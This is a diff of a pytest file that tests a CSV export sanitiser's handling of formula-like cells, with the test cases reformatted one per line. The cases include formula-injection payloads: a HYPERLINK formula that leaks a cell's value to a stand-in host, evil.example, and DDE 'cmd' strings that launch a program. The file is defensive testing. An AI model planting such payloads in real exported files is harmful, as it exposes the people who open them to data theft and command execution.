@@ -9,13 +9,26 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from core.exports import FORMULA_PREFIXES, neutralise_cell, to_csv
+from core.qa.exports import FORMULA_PREFIXES, neutralise_cell, to_csv
 
 
 @pytest.mark.parametrize(
     "value",
-    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-     "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "-", "+", "@", "=", "-x", "@handle"],
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "=1+1",
+        "-",
+        "+",
+        "@",
+        "=",
+        "-x",
+        "@handle",
+    ],
 )
 def test_formula_like_cells_get_a_leading_quote(value: str) -> None:
     assert neutralise_cell(value) == "'" + value
